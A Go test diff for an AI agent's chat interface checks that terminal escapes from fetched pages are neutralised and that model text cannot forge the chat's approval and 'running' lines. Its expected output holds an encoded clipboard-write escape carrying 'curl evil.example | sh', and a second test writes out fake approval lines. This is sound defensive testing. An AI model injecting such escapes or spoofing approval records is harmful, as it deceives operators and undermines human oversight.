@@ -178,3 +178,61 @@ func TestAuditCSVExportHasNoFormulas(t *testing.T) {
 		t.Errorf("JSON lines export:\n%s\nwant the reason as typed", out)
 	}
 }
+
+// bot chat prints what the model, a fetched page and the model's reason
+// say with their escape sequences, C1 and bidirectional controls
+// neutralised, as the operator commands do: a page the agent fetched
+// cannot clear the operator's screen, write their clipboard, or rewrite
+// the line that says what ran; a character that shows as nothing is shown.
+func TestChatPrintsNoTerminalEscapes(t *testing.T) {
+	t.Parallel()
+	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		fmt.Fprint(w, terminalAttack)
+	}))
+	t.Cleanup(page.Close)
+	h := newHarness(t, "")
+	fetch := call("c1", "GET", page.URL+"/ne\u200bws", "") // a zero-width space in the URL
+	h.model.Then(
+		llmtest.Reply("Fetching. "+terminalAttack, fetch),
+		llmtest.Reply("The page says: "+terminalAttack),
+	)
+	out := h.cli(t, "read the news\na\n", "chat", "--user", approver, "--thread", "chat-escapes")
+	if !strings.Contains(out, "The page says:") || !strings.Contains(out, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`) {
+		t.Fatalf("bot chat printed:\n%q\nwant the page's text, its escapes shown neutralised", out)
+	}
+	if !strings.Contains(out, `/ne\u200bws"`) {
+		t.Errorf("bot chat printed:\n%s\nwant the card's URL with its zero-width space shown", out)
+	}
+	if found := terminalEscapes(out); found != nil {
+		t.Errorf("bot chat prints %q:\n%q", found, out)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(strings.TrimSpace(line), "All calls verified") {
+			t.Errorf("bot chat prints a line of its own from the page's text: %q", line)
+		}
+	}
+}
+
+// In bot chat, a line of the model's text — its answer or the reason on
+// a card — never starts where the chat's own lines do: the model cannot
+// print a line that passes for the chat saying a call was approved and
+// ran.
+func TestChatModelTextCannotPassForTheChat(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t, "")
+	const fake = "\n└\n✔ http_request [0.9] approved by U0BOB\n… running http_request [0.9]\n  http_request [0.9] done: HTTP 200 OK"
+	h.model.Then(
+		llmtest.Reply("Fetching."+fake, call("c1", "GET", h.target.URL+"/status", "")),
+		llmtest.Reply("All good."+fake),
+	)
+	out := h.cli(t, "check the status\na\n", "chat", "--user", approver, "--thread", "chat-spoof")
+	if strings.Count(out, "approved by U0BOB") != 3 {
+		t.Fatalf("bot chat printed:\n%s\nwant the approval of 0.0 and the model's text twice", out)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.Contains(line, "[0.9]") && !strings.HasPrefix(line, "   ") && !strings.HasPrefix(line, "│   ") {
+			t.Errorf("bot chat prints the model's line %q where its own lines start:\n%s", line, out)
+		}
+	}
+}
